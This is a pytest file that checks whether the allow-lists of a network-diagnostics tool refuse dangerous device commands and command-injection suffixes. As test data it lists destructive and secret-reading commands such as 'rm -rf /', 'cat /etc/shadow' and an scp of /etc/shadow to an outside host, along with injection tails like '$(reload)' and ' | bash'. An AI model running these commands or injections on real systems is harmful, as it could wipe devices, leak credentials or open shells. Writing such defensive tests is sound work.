"""What no platform's allow-list lets through, in any case and spacing, alone or hung on what it does."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from netdoctor import platforms

PLATFORMS = platforms.names()

FORBIDDEN = {
    "configuration modes": [
        "configure",
        "configure terminal",
        "conf t",
        "configure exclusive",
        "configure private",
        "config",
        "edit",
        "edit-config private",
        "enter candidate",
        "admin",
        "enable",
        "system-view",
        "vtysh",
        'vtysh -c "configure terminal"',
        'vtysh -c "show version" -c "configure terminal"',
        "config interface shutdown Ethernet0",
        "commit",
        "rollback 1",
        "set interfaces ge-0/0/0 disable",
        "no shutdown",
    ],
    "clear": [
        "clear counters",
        "clear interfaces statistics all",
        "clear ip bgp *",
        "clear bgp all",
        "clear router bgp neighbor all",
        "clear log 99",
        "show drops history qfp clear",
        "show interfaces counters clear",
        "sonic-clear counters",
        'vtysh -c "clear bgp *"',
        "show queue counters -c",
        "show interfaces counters -c",
        "tools interface ethernet-1/1 statistics clear",
    ],
    "copy, delete and the like": [
        "copy running-config startup-config",
        "copy running-config tftp:",
        "write memory",
        "write erase",
        "delete flash:startup-config",
        "delete /force /recursive flash:",
        "erase startup-config",
        "format flash:",
        "rename flash:a flash:b",
        "file delete /var/log/messages",
        "file copy /config/juniper.conf /tmp/x",
        "admin save",
        "save",
        "rm -rf /",
        "scp /etc/shadow oncall@192.0.2.1:",
        "load override terminal",
        "install add source flash: new.bin",
        "install remove inactive",
        "request system software add x.tgz",
    ],
    "reload": [
        "reload",
        "reload in 5",
        "reload location all",
        "reboot",
        "shutdown",
        "request system reboot",
        "admin reboot now",
        "hw-module location 0/0/CPU0 reload",
        "tools platform chassis reboot",
        "systemctl restart frr",
        "config reload -y",
        "redundancy force-switchover",
    ],
    "debug and monitor": [
        "debug all",
        "debug ip bgp",
        "undebug all",
        "debug router bgp events",
        "monitor start messages",
        "monitor interface traffic",
        "monitor capture buffer x",
        "monitor session 1 source Ethernet1",
        "terminal monitor",
        "tcpdump -i any",
        "test aaa group tacacs+ user password legacy",
    ],
    "shells and programs": [
        "bash",
        "run bash",
        "guestshell",
        "start shell",
        "start shell user root",
        "shell",
        "run",
        "tclsh",
        "python",
        "python3 -c 'print(1)'",
        "sh",
        "sudo -i",
        "sudo bash",
        "request platform software system shell",
        "feature bash-shell",
        "attach location 0/0/CPU0",
        "environment command-completion",
        "ssh oncall@192.0.2.1",
        "telnet 192.0.2.1",
        "docker exec -it bgp bash",
        "docker exec bgp vtysh",
        "sonic-db-cli CONFIG_DB hset 'PORT|Ethernet0' admin_status down",
    ],
    "secrets": ["show tech-support", "admin tech-support /x", "cat /etc/shadow", "cat /etc/frr/frr.conf"],
    "nothing": ["", " ", "show", "|", "?", "!", "#"],
}

TAILS = [
    "; reload",
    ";reload",
    " ; clear counters",
    "\nreload",
    "\rreload",
    "\r\nreload",
    "\x0breload",
    "\x00",
    "\x03",
    "\x1a",
    "\x1b[A",
    " & reload",
    " && reload",
    " || reload",
    "`reload`",
    " `id`",
    "$(reload)",
    " ${IFS}reload",
    " $IFS",
    "\\",
    " > flash:x",
    ">x",
    " >> /tmp/x",
    " < /etc/passwd",
    " | redirect flash:x",
    " | append flash:x",
    " | tee flash:x",
    " | save x",
    " | file x",
    " | bash",
    " | sh",
    " | no-more | save x",
    " | json | redirect x",
    " | vsh",
    " | sed -e 1e\treload",
    " | awk 'BEGIN {system(1)}'",
    " | request message x",
    " || reload",
    " -c 'configure terminal'",
    " # reload",
    "\u2028reload",
    "\u00a0reload",
]

SPELLINGS = {
    "as it is": str,
    "upper": str.upper,
    "title": str.title,
    "swapped": str.swapcase,
    "behind a blank": lambda text: f" {text}",
    "before a blank": lambda text: f"{text} ",
    "wide": lambda text: text.replace(" ", "  "),
    "with tabs": lambda text: text.replace(" ", "\t"),
}


def sent(platform: str) -> list[str]:
    """What a run sends to a device of the platform, every hole filled with a harmless word."""
    fillings = ("1", "Ethernet1/1", "192.0.2.1", "default", "eth0", "1/1/1")
    found = []
    for command in platforms.get(platform).commands:
        ways = (command.template.format_map(_Filled(word)) for word in fillings)
        found.append(next((text for text in ways if platforms.get(platform).allows(text)), ""))
    return [text for text in found if text]


class _Filled(dict[str, str]):
    def __init__(self, word: str) -> None:
        super().__init__()
        self._word = word

    def __missing__(self, key: str) -> str:
        return self._word


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("kind", FORBIDDEN)
def test_what_changes_something_is_refused(platform: str, kind: str) -> None:
    allows = platforms.get(platform).allows
    let_through = [
        (spelling, command)
        for command in FORBIDDEN[kind]
        for spelling, spell in SPELLINGS.items()
        if allows(spell(command))
    ]
    assert let_through == []


@pytest.mark.parametrize("platform", PLATFORMS)
def test_nothing_can_be_hung_on_what_is_sent(platform: str) -> None:
    allows = platforms.get(platform).allows
    let_through = [command + tail for command in sent(platform) for tail in TAILS if allows(command + tail)]
    assert let_through == []


@pytest.mark.parametrize("platform", PLATFORMS)
def test_every_command_that_is_sent_is_allowed(platform: str) -> None:
    found = platforms.get(platform)
    plain = [command.template for command in found.commands if command.arguments is None]
    assert [text for text in plain if not found.allows(text)] == []


@pytest.mark.parametrize("platform", PLATFORMS)
@given(data=st.data())
def test_no_character_that_a_command_line_acts_on_is_allowed(platform: str, data: st.DataObject) -> None:
    command = data.draw(st.sampled_from(sent(platform)))
    where = data.draw(st.integers(0, len(command)))
    what = data.draw(st.sampled_from([*";&`<>\\\n\r\t\x00\x03\x1b\x7f", "$(", "${", "||", "\u2028"]))
    assert not platforms.get(platform).allows(command[:where] + what + command[where:])


HARMFUL = {
    *("clear", "configure", "reload", "debug", "monitor", "copy", "delete", ">", ";", "redirect"),
    *("tee", "append", "save", "request", "start"),
}
WORDS = sorted({*HARMFUL, "show", "bash", "shell", "|", "sudo", "vtysh", "-c", "json", "no-more", "version"})


@pytest.mark.parametrize("platform", PLATFORMS)
@given(words=st.lists(st.sampled_from(WORDS), min_size=1, max_size=6))
def test_words_that_change_something_are_in_no_allowed_command(platform: str, words: list[str]) -> None:
    allowed = platforms.get(platform).allows(" ".join(words))
    assert not (allowed and HARMFUL & set(words))
